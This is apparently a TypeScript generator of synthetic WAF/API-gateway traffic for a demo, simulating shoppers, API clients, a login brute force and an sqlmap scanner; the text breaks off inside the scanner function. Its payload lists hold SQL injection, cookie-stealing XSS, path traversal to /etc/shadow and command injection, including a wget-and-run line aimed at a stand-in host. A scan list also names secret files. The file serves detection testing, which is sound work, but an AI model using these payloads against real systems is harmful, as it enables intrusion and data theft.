/**
 * Deterministic demo traffic: request metadata as a set of nodes (WAF / API gateway) would report it to
 * `POST /v1/requests` (see "External contract v1" in DESIGN.md).
 *
 * Pure: no Math.random, no Date.now. The same `{ seed, now, hours }` always gives the same records (ids included),
 * so posting the same demo twice stores it once (the service writes with op_type=create on `id`).
 *
 * Actors (see ACTORS): browsing shop users with PHPSESSID/JSESSIONID cookies (one with a > 30 min break, one
 * crossing UTC midnight when the window spans it), anonymous shop visitors, a JWT-authenticated reporting client,
 * login flows whose response token is reused in later requests, a partner with an API key (header and query),
 * a credential brute force on POST /api/v1/login, a vulnerability scanner (sqlmap, IPv6) probing hundreds of
 * endpoints, a slow reports endpoint, a scraper bot, and a mobile backend that sends a node-computed session_id.
 *
 * Every identifier value (cookies, tokens, API keys) is a random-looking secret: the service must never store them.
 */

export interface DemoIdentifiers {
  headers?: Record<string, string>;
  cookies?: Record<string, string>;
  query?: Record<string, string>;
  response?: Record<string, string>;
}

export interface DemoAttack {
  type: string;
  blocked?: boolean;
  rule?: string;
}

/** One request record, per the ingest contract v1. */
export interface DemoRecord {
  id: string;
  /** Epoch milliseconds. */
  ts: number;
  host: string;
  method: string;
  path: string;
  status: number;
  client_ip: string;
  duration_ms: number;
  request_bytes: number;
  response_bytes: number;
  user_agent: string;
  node: string;
  app: string;
  protocol: string;
  endpoint?: string;
  identifiers?: DemoIdentifiers;
  session_id?: string;
  user?: string;
  role?: string;
  context?: Record<string, string>;
  attacks?: DemoAttack[];
  blocked?: boolean;
  bot?: { type: string; score?: number };
}

export const ACTORS = [
  'browsing',
  'anonymous',
  'jwt_client',
  'login_flow',
  'partner',
  'brute_force',
  'scanner',
  'slow_reports',
  'bot',
  'mobile',
] as const;
export type Actor = (typeof ACTORS)[number];

export interface TaggedRecord {
  actor: Actor;
  record: DemoRecord;
}

export interface DemoOptions {
  /** PRNG seed (default 42). */
  seed?: number;
  /** End of the window, epoch ms (required: the generator never reads the clock). */
  now: number;
  /** Window length in hours (default 6). */
  hours?: number;
}

/** Well-known values, exported so tests, benchmarks and docs can find each actor. */
export const DEMO = {
  shopHost: 'shop.example.com',
  apiHost: 'api.example.com',
  mobileHost: 'm.example.com',
  loginPath: '/api/v1/login',
  slowEndpoint: '/api/v1/reports/{id}',
  jwtSub: 'svc-reporting',
  jwtRole: 'service',
  bruteForceIp: '198.51.100.77',
  bruteForceUa: 'python-requests/2.31.0',
  scannerIp: '2001:db8:85a3::8a2e:370:7334',
  scannerUa: 'sqlmap/1.7.2#stable (https://sqlmap.org)',
  botIp: '203.0.113.45',
  botUa: 'Mozilla/5.0 (compatible; PriceGrabber/3.1; +https://pricegrabber.example/bot)',
  botVerdict: { type: 'scraper', score: 0.92 },
  breakUserIndex: 0,
} as const;

const MIN = 60_000;
const HOUR = 60 * MIN;
const DAY = 24 * HOUR;

// ---------------------------------------------------------------------------------------------------------------
// PRNG

/** mulberry32: small, fast, good enough for demo data. Returns a function giving floats in [0, 1). */
export function mulberry32(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const B64URL = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';

class Rng {
  private readonly next: () => number;
  constructor(seed: number) {
    this.next = mulberry32(seed);
  }
  float(): number {
    return this.next();
  }
  /** Integer in [min, max] inclusive. */
  int(min: number, max: number): number {
    return min + Math.floor(this.next() * (max - min + 1));
  }
  chance(p: number): boolean {
    return this.next() < p;
  }
  pick<T>(items: readonly T[]): T {
    return items[Math.floor(this.next() * items.length)];
  }
  /** Weighted pick: [[value, weight], ...]. */
  weighted<T>(items: readonly (readonly [T, number])[]): T {
    const total = items.reduce((s, [, w]) => s + w, 0);
    let r = this.next() * total;
    for (const [v, w] of items) {
      r -= w;
      if (r < 0) return v;
    }
    return items[items.length - 1][0];
  }
  /** Log-normal-ish value with the given median, clamped to [min, max]. */
  lognormal(median: number, sigma: number, min: number, max: number): number {
    // Box-Muller
    const u1 = Math.max(this.next(), 1e-12);
    const u2 = this.next();
    const z = Math.sqrt(-2 * Math.log(u1)) * Math.cos(2 * Math.PI * u2);
    return Math.min(max, Math.max(min, median * Math.exp(sigma * z)));
  }
  chars(alphabet: string, n: number): string {
    let s = '';
    for (let i = 0; i < n; i++) s += alphabet[Math.floor(this.next() * alphabet.length)];
    return s;
  }
  hex(n: number): string {
    return this.chars('0123456789abcdef', n);
  }
  b64url(n: number): string {
    return this.chars(B64URL, n);
  }
}

function base64url(text: string): string {
  return Buffer.from(text, 'utf8').toString('base64').replace(/\+/g, '-').replace(/\//g, '_').replace(/=+$/, '');
}

// ---------------------------------------------------------------------------------------------------------------
// Vocabulary

const BROWSER_UAS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.81 Mobile Safari/537.36',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36',
];

const SHOP_USERS = [
  'maria.schmidt@example.com',
  'li.wei@example.com',
  'jan.novak@example.com',
  'aisha.khan@example.com',
  'tom.baker@example.com',
  'sofia.rossi@example.com',
  'kenji.sato@example.com',
  'olga.ivanova@example.com',
  'pedro.alves@example.com',
  'emma.jones@example.com',
];

const CATEGORIES = ['shoes', 'jackets', 'bags', 'watches', 'outdoor', 'kids', 'sale'];
const SEARCH_TERMS = ['red+shoes', 'rain+jacket', 'leather+bag', 'smart+watch', 'tent', 'running', 'gift+card'];
const NODES = ['waf-eu-1', 'waf-eu-2', 'gw-us-1'];
const COUNTRIES = ['DE', 'FR', 'PL', 'US', 'GB', 'JP', 'BR', 'IN'];

const SCAN_PREFIXES = ['', '/admin', '/api', '/api/v1', '/backup', '/old', '/test', '/dev', '/static', '/cgi-bin'];
const SCAN_WORDS = [
  '.env', '.git/config', '.git/HEAD', '.svn/entries', '.htaccess', '.DS_Store', 'config.php', 'config.json',
  'config.yml', 'phpinfo.php', 'info.php', 'wp-login.php', 'wp-config.php.bak', 'xmlrpc.php', 'backup.sql',
  'db.sql', 'dump.sql', 'database.zip', 'site.tar.gz', 'web.config', 'server-status', 'actuator/env',
  'actuator/heapdump', 'swagger.json', 'openapi.yaml', 'graphql', 'console', 'debug/pprof', 'phpmyadmin/index.php',
  'jmx-console', 'manager/html', 'login.action', 'id_rsa', 'credentials.json', 'docker-compose.yml',
];

const SQLI = ["1' OR '1'='1", '1 UNION SELECT username,password FROM users--', "1; DROP TABLE users--", "1' AND SLEEP(5)--"];
const XSS = ['<script>alert(1)</script>', '"><img src=x onerror=alert(document.cookie)>', "javascript:alert('x')"];
const RCE = [';cat /etc/passwd', '$(id)', '|wget http://198.51.100.9/x.sh|sh', '`uname -a`'];
const TRAVERSAL = ['../../../../etc/passwd', '..%2f..%2f..%2fetc%2fshadow', '....//....//windows/win.ini'];

// ---------------------------------------------------------------------------------------------------------------
// Record building

interface Conn {
  host: string;
  app: string;
  client_ip: string;
  user_agent: string;
  node: string;
  protocol: string;
  identifiers?: DemoIdentifiers;
  user?: string;
  role?: string;
  context?: Record<string, string>;
  session_id?: string;
  bot?: { type: string; score?: number };
}

interface Req {
  method: string;
  path: string;
  status: number;
  endpoint?: string;
  duration_ms?: number;
  request_bytes?: number;
  response_bytes?: number;
  attacks?: DemoAttack[];
  blocked?: boolean;
  /** Extra identifiers, merged over the connection's. */
  identifiers?: DemoIdentifiers;
  user?: string;
  role?: string;
}

type Kind = 'page' | 'api' | 'write' | 'static' | 'error';

class Builder {
  readonly out: TaggedRecord[] = [];
  constructor(
    readonly rng: Rng,
    readonly start: number,
    readonly end: number,
  ) {}

  add(actor: Actor, ts: number, c: Conn, r: Req, kind: Kind = 'api'): void {
    const rng = this.rng;
    const t = Math.round(ts);
    if (t < this.start || t > this.end) return; // keep every record inside the window
    const post = r.method === 'POST' || r.method === 'PUT' || r.method === 'PATCH';
    const duration =
      r.duration_ms ??
      (kind === 'page'
        ? rng.lognormal(85, 0.6, 8, 2500)
        : kind === 'write'
          ? rng.lognormal(180, 0.5, 20, 4000)
          : kind === 'error'
            ? rng.lognormal(6, 0.5, 1, 200)
            : rng.lognormal(35, 0.7, 2, 3000));
    const requestBytes = r.request_bytes ?? (post ? rng.int(600, 4200) : rng.int(280, 1100));
    let responseBytes = r.response_bytes;
    if (responseBytes === undefined) {
      if (r.status === 304 || r.status === 204 || r.status === 0) responseBytes = 0;
      else if (r.status >= 400) responseBytes = rng.int(120, 900);
      else if (kind === 'page') responseBytes = rng.int(9_000, 85_000);
      else if (kind === 'write') responseBytes = rng.int(90, 1_500);
      else responseBytes = rng.int(250, 12_000);
    }
    const identifiers = mergeIdentifiers(c.identifiers, r.identifiers);
    const record: DemoRecord = {
      id: '',
      ts: t,
      host: c.host,
      method: r.method,
      path: r.path,
      status: r.status,
      client_ip: c.client_ip,
      duration_ms: Math.round(duration * 10) / 10,
      request_bytes: requestBytes,
      response_bytes: responseBytes,
      user_agent: c.user_agent,
      node: c.node,
      app: c.app,
      protocol: c.protocol,
    };
    if (r.endpoint) record.endpoint = r.endpoint;
    if (identifiers) record.identifiers = identifiers;
    if (c.session_id) record.session_id = c.session_id;
    const user = r.user ?? c.user;
    const role = r.role ?? c.role;
    if (user) record.user = user;
    if (role) record.role = role;
    if (c.context) record.context = { ...c.context };
    if (r.attacks && r.attacks.length > 0) record.attacks = r.attacks.map((a) => ({ ...a }));
    if (r.blocked !== undefined) record.blocked = r.blocked;
    if (c.bot) record.bot = { ...c.bot };
    this.out.push({ actor, record });
  }
}

function mergeIdentifiers(a?: DemoIdentifiers, b?: DemoIdentifiers): DemoIdentifiers | undefined {
  if (!a && !b) return undefined;
  const out: DemoIdentifiers = {};
  for (const k of ['headers', 'cookies', 'query', 'response'] as const) {
    const m = { ...(a?.[k] ?? {}), ...(b?.[k] ?? {}) };
    if (Object.keys(m).length > 0) out[k] = m;
  }
  return Object.keys(out).length > 0 ? out : undefined;
}

// Address helpers: documentation ranges (RFC 5737 / RFC 3849) plus a few realistic-looking public ones.
function ipv4(rng: Rng): string {
  const base = rng.pick(['192.0.2', '198.51.100', '203.0.113', '81.2.69', '89.160.20', '175.16.199']);
  return `${base}.${rng.int(2, 254)}`;
}
function ipv6(rng: Rng): string {
  return `2001:db8:${rng.hex(4).replace(/^0+/, '') || '0'}:${rng.int(1, 0xffff).toString(16)}::${rng.int(1, 0xffff).toString(16)}`;
}
function protocolFor(rng: Rng, ua: string): string {
  if (/Chrome|Safari|Firefox/.test(ua)) return rng.weighted([['HTTP/2', 7], ['HTTP/3', 2], ['HTTP/1.1', 1]] as const);
  return 'HTTP/1.1';
}

// ---------------------------------------------------------------------------------------------------------------
// Actors

/** A browsing visit on the shop: pages plus the XHR API calls they trigger. Returns the time after the last request. */
function shopVisit(b: Builder, actor: Actor, t0: number, c: Conn, steps: number, opts: { login?: string } = {}): number {
  const rng = b.rng;
  let t = t0;
  const think = () => rng.lognormal(25_000, 0.9, 1_500, 240_000);
  const xhr = () => rng.int(80, 900);
  let loggedIn = false;
  let cartItems: number[] = [];
  const entry = rng.pick(['/', `/products?category=${rng.pick(CATEGORIES)}`, `/search?q=${rng.pick(SEARCH_TERMS)}`]);
  b.add(actor, t, c, { method: 'GET', path: entry, status: 200 }, 'page');
  t += xhr();
  b.add(actor, t, c, { method: 'GET', path: '/api/cart', status: 200, endpoint: '/api/cart' });
  for (let i = 0; i < steps; i++) {
    t += think();
    const action = rng.weighted([
      ['product', 10],
      ['list', 4],
      ['search', 3],
      ['addcart', 3],
      ['cart', 2],
      ['login', opts.login && !loggedIn ? 2 : 0],
      ['checkout', cartItems.length > 0 ? 2 : 0],
      ['orders', loggedIn ? 1 : 0],
      ['notfound', 0.3],
    ] as const);
    const who = loggedIn ? { user: opts.login, role: 'customer' } : {};
    switch (action) {
      case 'product': {
        const id = rng.int(1000, 1999);
        const revisit = rng.chance(0.1);
        b.add(actor, t, c, { method: 'GET', path: `/products/${id}`, status: revisit ? 304 : 200, ...who }, 'page');
        t += xhr();
        b.add(actor, t, c, { method: 'GET', path: `/api/products/${id}/reviews?page=1&sort=${rng.pick(['recent', 'rating'])}`, status: 200, endpoint: '/api/products/{id}/reviews', ...who });
        if (rng.chance(0.4)) {
          t += xhr();
          b.add(actor, t, c, { method: 'GET', path: `/api/products/${id}/stock`, status: 200, endpoint: '/api/products/{id}/stock', ...who });
        }
        break;
      }
      case 'list':
        b.add(actor, t, c, { method: 'GET', path: `/products?category=${rng.pick(CATEGORIES)}&page=${rng.int(1, 4)}`, status: 200, ...who }, 'page');
        break;
      case 'search':
        b.add(actor, t, c, { method: 'GET', path: `/search?q=${rng.pick(SEARCH_TERMS)}`, status: 200, ...who }, 'page');
        t += xhr();
        b.add(actor, t, c, { method: 'GET', path: `/api/search/suggest?q=${rng.pick(SEARCH_TERMS)}`, status: 200, endpoint: '/api/search/suggest', ...who });
        break;
      case 'addcart': {
        const id = rng.int(1000, 1999);
        cartItems.push(id);
        b.add(actor, t, c, { method: 'POST', path: '/api/cart/items', status: 201, endpoint: '/api/cart/items', ...who }, 'write');
        if (rng.chance(0.2)) {
          t += rng.int(3_000, 20_000);
          b.add(actor, t, c, { method: 'PUT', path: `/api/cart/items/${id}`, status: 200, endpoint: '/api/cart/items/{id}', ...who }, 'write');
        }
        break;
      }
      case 'cart':
        b.add(actor, t, c, { method: 'GET', path: '/cart', status: 200, ...who }, 'page');
        t += xhr();
        b.add(actor, t, c, { method: 'GET', path: '/api/cart', status: 200, endpoint: '/api/cart', ...who });
        if (cartItems.length > 0 && rng.chance(0.25)) {
          const id = cartItems.pop()!;
          t += rng.int(2_000, 15_000);
          b.add(actor, t, c, { method: 'DELETE', path: `/api/cart/items/${id}`, status: 204, endpoint: '/api/cart/items/{id}', ...who }, 'write');
        }
        break;
      case 'login': {
        b.add(actor, t, c, { method: 'GET', path: '/account/login', status: 200 }, 'page');
        t += rng.int(6_000, 25_000);
        const typo = rng.chance(0.25);
        if (typo) {
          b.add(actor, t, c, { method: 'POST', path: '/account/login', status: 401, endpoint: '/account/login' }, 'write');
          t += rng.int(5_000, 15_000);
        }
        b.add(actor, t, c, { method: 'POST', path: '/account/login', status: 302, endpoint: '/account/login', user: opts.login, role: 'customer' }, 'write');
        loggedIn = true;
        t += rng.int(150, 600);
        b.add(actor, t, c, { method: 'GET', path: '/account', status: 200, user: opts.login, role: 'customer' }, 'page');
        break;
      }
      case 'checkout': {
        b.add(actor, t, c, { method: 'GET', path: '/checkout', status: 200, ...who }, 'page');
        t += rng.int(20_000, 90_000);
        const declined = rng.chance(0.15);
        b.add(actor, t, c, { method: 'POST', path: '/api/checkout', status: declined ? 402 : 200, endpoint: '/api/checkout', duration_ms: rng.lognormal(650, 0.4, 150, 6000), ...who }, 'write');
        if (!declined) {
          cartItems = [];
          t += rng.int(200, 900);
          b.add(actor, t, c, { method: 'GET', path: `/checkout/confirmation?order=${rng.int(100000, 999999)}`, status: 200, ...who }, 'page');
        }
        break;
      }
      case 'orders':
        b.add(actor, t, c, { method: 'GET', path: '/account/orders', status: 200, ...who }, 'page');
        t += xhr();
        b.add(actor, t, c, { method: 'GET', path: '/api/orders?limit=20', status: 200, endpoint: '/api/orders', ...who });
        break;
      case 'notfound':
        b.add(actor, t, c, { method: 'GET', path: rng.pick(['/products/99999', '/sale/black-friday-2019', '/favicon.png']), status: 404, ...who }, 'page');
        break;
    }
    if (rng.chance(0.01)) {
      t += xhr();
      b.add(actor, t, c, { method: 'GET', path: '/api/cart', status: 500, endpoint: '/api/cart', ...who });
    }
  }
  return t;
}

function browsingUsers(b: Builder, nodeOf: () => string): void {
  const rng = b.rng;
  const span = b.end - b.start;
  // A UTC midnight strictly inside the window (with room for a short visit on both sides)?
  const midnight = Math.ceil((b.start + 15 * MIN) / DAY) * DAY;
  const midnightInWindow = midnight < b.end - 15 * MIN;
  for (let u = 0; u < SHOP_USERS.length; u++) {
    const ua = BROWSER_UAS[u % BROWSER_UAS.length];
    const cookieName = u % 3 === 2 ? 'JSESSIONID' : 'PHPSESSID';
    const cookieValue = cookieName === 'PHPSESSID' ? rng.chars('abcdefghijklmnopqrstuv0123456789', 26) : rng.chars('0123456789ABCDEF', 32);
    const c: Conn = {
      host: DEMO.shopHost,
      app: 'shop',
      client_ip: u % 4 === 3 ? ipv6(rng) : ipv4(rng),
      user_agent: ua,
      node: nodeOf(),
      protocol: protocolFor(rng, ua),
      identifiers: { cookies: { [cookieName]: cookieValue } },
      context: { country: COUNTRIES[u % COUNTRIES.length] },
    };
    const login = SHOP_USERS[u];
    if (u === DEMO.breakUserIndex) {
      // One visit, a 35–50 minute break (e.g. lunch), then the same cookie again: two session parts.
      const t0 = b.start + span * 0.2;
      const t1 = shopVisit(b, 'browsing', t0, c, 18, { login });
      shopVisit(b, 'browsing', t1 + rng.int(35, 50) * MIN, c, 14, { login });
      continue;
    }
    if (u === 1 && midnightInWindow) {
      // A visit that crosses UTC midnight: split_by_day cuts it in two parts.
      let t = midnight - 8 * MIN;
      while (t < midnight + 8 * MIN) {
        t = shopVisit(b, 'browsing', t, c, 3, { login }) + rng.int(5_000, 40_000);
      }
      continue;
    }
    // 2–3 visits spread over the window, each with a fresh session cookie.
    const visits = rng.int(2, 3);
    for (let v = 0; v < visits; v++) {
      const slot = (v + rng.float() * 0.8) / visits;
      const visitConn = v === 0 ? c : { ...c, identifiers: { cookies: { [cookieName]: cookieName === 'PHPSESSID' ? rng.chars('abcdefghijklmnopqrstuv0123456789', 26) : rng.chars('0123456789ABCDEF', 32) } } };
      shopVisit(b, 'browsing', b.start + span * slot * 0.92, visitConn, rng.int(12, 30), { login: rng.chance(0.7) ? login : undefined });
    }
  }
}

function anonymousVisitors(b: Builder, nodeOf: () => string): void {
  const rng = b.rng;
  const span = b.end - b.start;
  const n = Math.max(20, Math.round((span / HOUR) * 25));
  for (let i = 0; i < n; i++) {
    const ua = rng.pick(BROWSER_UAS);
    const c: Conn = {
      host: DEMO.shopHost,
      app: 'shop',
      client_ip: rng.chance(0.2) ? ipv6(rng) : ipv4(rng),
      user_agent: ua,
      node: nodeOf(),
      protocol: protocolFor(rng, ua),
    };
    // Most anonymous visitors get a cookie on their first response; a few arrive without any.
    if (rng.chance(0.6)) c.identifiers = { cookies: { PHPSESSID: rng.chars('abcdefghijklmnopqrstuv0123456789', 26) } };
    shopVisit(b, 'anonymous', b.start + rng.float() * span, c, rng.int(0, 4));
  }
}

function makeJwt(rng: Rng, payload: object): string {
  const header = base64url(JSON.stringify({ alg: 'RS256', typ: 'JWT', kid: rng.hex(8) }));
  return `${header}.${base64url(JSON.stringify(payload))}.${rng.b64url(86)}`;
}

/** Reporting service: JWT bearer, polls orders and pulls reports (the slow endpoint) all window long. */
function jwtClient(b: Builder, nodeOf: () => string): void {
  const rng = b.rng;
  const jwt = makeJwt(rng, { sub: DEMO.jwtSub, role: DEMO.jwtRole });
  const c: Conn = {
    host: DEMO.apiHost,
    app: 'public-api',
    client_ip: '10.20.4.17',
    user_agent: 'reporting-service/2.4.1 python-httpx/0.27.2',
    node: nodeOf(),
    protocol: 'HTTP/1.1',
    identifiers: { headers: { authorization: `Bearer ${jwt}` } },
    context: { tenant: 'acme-corp' },
  };
  let t = b.start + rng.int(5_000, 60_000);
  while (t < b.end) {
    const r = rng.weighted([['orders', 5], ['customers', 2], ['metrics', 2], ['report', 2]] as const);
    if (r === 'orders') {
      b.add('jwt_client', t, c, { method: 'GET', path: `/api/v1/orders?since=${encodeURIComponent(new Date(Math.round(t) - 10 * MIN).toISOString())}&limit=500`, status: 200, endpoint: '/api/v1/orders', response_bytes: rng.int(2_000, 240_000) });
    } else if (r === 'customers') {
      const id = rng.int(10000, 99999);
      b.add('jwt_client', t, c, { method: 'GET', path: `/api/v1/customers/${id}`, status: rng.chance(0.05) ? 404 : 200, endpoint: '/api/v1/customers/{id}' });
    } else if (r === 'metrics') {
      b.add('jwt_client', t, c, { method: 'GET', path: '/api/v1/metrics/daily?tz=UTC', status: 200, endpoint: '/api/v1/metrics/daily' });
    } else {
      slowReport(b, 'jwt_client', t, c);
    }
    t += rng.lognormal(70_000, 0.5, 5_000, 600_000);
  }
}

/** GET /api/v1/reports/{id}: 2–8 s, sometimes 500, and 504 when the gateway gives up at 8 s. */
function slowReport(b: Builder, actor: Actor, t: number, c: Conn): void {
  const rng = b.rng;
  const id = rng.int(10000, 99999);
  const outcome = rng.weighted([['ok', 85], ['500', 6], ['504', 9]] as const);
  const status = outcome === 'ok' ? 200 : outcome === '500' ? 500 : 504;
  const duration = status === 504 ? rng.int(8000, 8060) : rng.lognormal(3800, 0.35, 2000, 7900);
  b.add(actor, t, c, {
    method: 'GET',
    path: `/api/v1/reports/${id}${rng.chance(0.5) ? `?format=${rng.pick(['pdf', 'csv', 'json'])}` : ''}`,
    status,
    endpoint: DEMO.slowEndpoint,
    duration_ms: duration,
    response_bytes: status === 200 ? rng.int(40_000, 2_500_000) : rng.int(150, 400),
  });
}

/** Analysts in the back office opening reports through the API (slow endpoint traffic besides the JWT client). */
function slowReportUsers(b: Builder, nodeOf: () => string): void {
  const rng = b.rng;
  const span = b.end - b.start;
  for (let i = 0; i < 6; i++) {
    const ua = rng.pick(BROWSER_UAS);
    const c: Conn = {
      host: DEMO.apiHost,
      app: 'public-api',
      client_ip: ipv4(rng),
      user_agent: ua,
      node: nodeOf(),
      protocol: protocolFor(rng, ua),
      identifiers: { cookies: { 'connect.sid': `s:${rng.b64url(32)}.${rng.b64url(43)}` } },
      user: `analyst${i + 1}@example.com`,
      role: 'analyst',
    };
    let t = b.start + rng.float() * span * 0.9;
    const n = rng.int(5, 14);
    for (let k = 0; k < n; k++) {
      b.add('slow_reports', t, c, { method: 'GET', path: '/api/v1/reports?limit=50', status: 200, endpoint: '/api/v1/reports' });
      t += rng.int(2_000, 30_000);
      slowReport(b, 'slow_reports', t, c);
      t += rng.lognormal(60_000, 0.6, 8_000, 400_000);
    }
  }
}

/** Mobile app users: login returns a token in `x-auth-token`; later requests carry it in the same header. */
function loginFlows(b: Builder, nodeOf: () => string): void {
  const rng = b.rng;
  const span = b.end - b.start;
  const users = ['j.doe@example.com', 'a.martin@example.com', 'r.gupta@example.com', 'k.muller@example.com', 'c.lopez@example.com', 'n.okafor@example.com'];
  for (let i = 0; i < users.length; i++) {
    const ua = rng.pick(['ShopApp/5.12.0 (iPhone; iOS 18.1; Scale/3.00)', 'ShopApp/5.12.0 (Android 14; Pixel 8)', 'ShopApp/5.11.3 (Android 13; SM-G991B)']);
    const c: Conn = { host: DEMO.apiHost, app: 'public-api', client_ip: i % 3 === 1 ? ipv6(rng) : ipv4(rng), user_agent: ua, node: nodeOf(), protocol: 'HTTP/2' };
    let t = b.start + ((i + rng.float() * 0.7) / users.length) * span * 0.9;
    if (rng.chance(0.35)) {
      b.add('login_flow', t, c, { method: 'POST', path: DEMO.loginPath, status: 401, endpoint: DEMO.loginPath, duration_ms: rng.lognormal(120, 0.3, 40, 800) }, 'write');
      t += rng.int(4_000, 20_000);
    }
    const token = rng.b64url(48);
    b.add('login_flow', t, c, {
      method: 'POST',
      path: DEMO.loginPath,
      status: 200,
      endpoint: DEMO.loginPath,
      duration_ms: rng.lognormal(140, 0.3, 40, 900),
      identifiers: { response: { 'x-auth-token': token } },
      user: users[i],
      role: 'customer',
    }, 'write');
    const authed: Conn = { ...c, identifiers: { headers: { 'x-auth-token': token } }, user: users[i], role: 'customer' };
    const n = rng.int(15, 45);
    for (let k = 0; k < n; k++) {
      t += rng.lognormal(12_000, 0.9, 300, 180_000);
      const what = rng.weighted([['me', 2], ['orders', 3], ['order', 3], ['products', 4], ['product', 5], ['cart', 3], ['report', 0.5], ['notif', 2]] as const);
      switch (what) {
        case 'me':
          b.add('login_flow', t, authed, { method: 'GET', path: '/api/v1/me', status: 200, endpoint: '/api/v1/me' });
          break;
        case 'orders':
          b.add('login_flow', t, authed, { method: 'GET', path: '/api/v1/orders?limit=20', status: 200, endpoint: '/api/v1/orders' });
          break;
        case 'order': {
          const id = rng.int(100000, 999999);
          b.add('login_flow', t, authed, { method: 'GET', path: `/api/v1/orders/${id}`, status: rng.chance(0.07) ? 404 : 200, endpoint: '/api/v1/orders/{id}' });
          break;
        }
        case 'products':
          b.add('login_flow', t, authed, { method: 'GET', path: `/api/v1/products?category=${rng.pick(CATEGORIES)}&page=${rng.int(1, 5)}`, status: 200, endpoint: '/api/v1/products' });
          break;
        case 'product':
          b.add('login_flow', t, authed, { method: 'GET', path: `/api/v1/products/${rng.int(1000, 1999)}`, status: 200, endpoint: '/api/v1/products/{id}' });
          break;
        case 'cart':
          b.add('login_flow', t, authed, { method: 'POST', path: '/api/v1/cart/items', status: rng.chance(0.05) ? 409 : 201, endpoint: '/api/v1/cart/items' }, 'write');
          break;
        case 'report':
          slowReport(b, 'login_flow', t, authed);
          break;
        case 'notif':
          b.add('login_flow', t, authed, { method: 'GET', path: '/api/v1/notifications?unread=true', status: rng.chance(0.3) ? 304 : 200, endpoint: '/api/v1/notifications' });
          break;
      }
    }
    if (rng.chance(0.6)) {
      t += rng.int(2_000, 60_000);
      b.add('login_flow', t, authed, { method: 'POST', path: '/api/v1/logout', status: 204, endpoint: '/api/v1/logout' }, 'write');
    }
  }
}

/** Partner integration: API key in a header, and a legacy export call that puts the key in the query string. */
function partner(b: Builder, nodeOf: () => string): void {
  const rng = b.rng;
  const key = `pk_live_${rng.b64url(32)}`;
  const c: Conn = {
    host: DEMO.apiHost,
    app: 'public-api',
    client_ip: '192.0.2.210',
    user_agent: 'acme-sync/1.9 (+https://acme.example/integrations) Go-http-client/2.0',
    node: nodeOf(),
    protocol: 'HTTP/2',
    identifiers: { headers: { 'x-api-key': key } },
    context: { partner: 'acme' },
  };
  let t = b.start + rng.int(30_000, 300_000);
  while (t < b.end) {
    // A sync burst every ~20 minutes.
    const burst = rng.int(6, 14);
    let s = t;
    for (let k = 0; k < burst; k++) {
      const sku = rng.int(1000, 1999);
      const put = rng.chance(0.4);
      b.add('partner', s, c, put
        ? { method: 'PUT', path: `/api/v1/inventory/${sku}`, status: rng.chance(0.04) ? 422 : 200, endpoint: '/api/v1/inventory/{sku}' }
        : { method: 'GET', path: `/api/v1/inventory/${sku}`, status: 200, endpoint: '/api/v1/inventory/{sku}' }, put ? 'write' : 'api');
      s += rng.int(150, 2_500);
    }
    if (rng.chance(0.5)) {
      b.add('partner', s, c, {
        method: 'GET',
        path: `/api/v1/export?format=csv&api_key=${key}`,
        status: 200,
        endpoint: '/api/v1/export',
        identifiers: { query: { api_key: key } },
        duration_ms: rng.lognormal(900, 0.4, 200, 5000),
        response_bytes: rng.int(100_000, 4_000_000),
      });
    }
    t += rng.lognormal(20 * MIN, 0.3, 5 * MIN, 60 * MIN);
  }
}

/** Credential brute force: 230 failed logins from one IP + UA, flagged after a while, then blocked. */
function bruteForce(b: Builder, nodeOf: () => string): void {
  const rng = b.rng;
  const span = b.end - b.start;
  const c: Conn = { host: DEMO.apiHost, app: 'public-api', client_ip: DEMO.bruteForceIp, user_agent: DEMO.bruteForceUa, node: nodeOf(), protocol: 'HTTP/1.1' };
  const failures = 230;
  const blockedAfter = 40;
  const total = failures + blockedAfter;
  // Gaps 1–5 s (~13 min in all); compressed when the window is very short so the whole attack fits.
  const scale = Math.min(1, (span * 0.3) / (total * 3_000));
  let t = b.start + span * 0.55;
  for (let k = 0; k < total; k++) {
    const flagged = k >= 60;
    if (k < failures) {
      b.add('brute_force', t, c, {
        method: 'POST',
        path: DEMO.loginPath,
        status: 401,
        endpoint: DEMO.loginPath,
        duration_ms: rng.lognormal(110, 0.25, 40, 600),
        request_bytes: rng.int(380, 460),
        response_bytes: rng.int(60, 90),
        attacks: flagged ? [{ type: 'brute_force', blocked: false, rule: 'bf-login-20-per-min' }] : undefined,
      }, 'write');
    } else {
      b.add('brute_force', t, c, {
        method: 'POST',
        path: DEMO.loginPath,
        status: 403,
        endpoint: DEMO.loginPath,
        duration_ms: rng.lognormal(1.5, 0.3, 0.3, 10),
        request_bytes: rng.int(380, 460),
        response_bytes: rng.int(150, 200),
        attacks: [{ type: 'brute_force', blocked: true, rule: 'bf-login-20-per-min' }],
        blocked: true,
      }, 'error');
    }
    t += rng.int(1_000, 5_000) * scale;
  }
}

/** sqlmap from an IPv6 address: hundreds of probed paths, injection payloads, some blocked by the WAF. */
function scanner(b: Builder, nodeOf: () => string): void {
  const rng = b.rng;
  const span = b.end - b.start;
  const c: Conn = { host: DEMO.apiHost, app: 'public-api', client_ip: DEMO.scannerIp, user_agent: DEMO.scannerUa, node: nodeOf(), protocol: 'HTTP/1.1' };
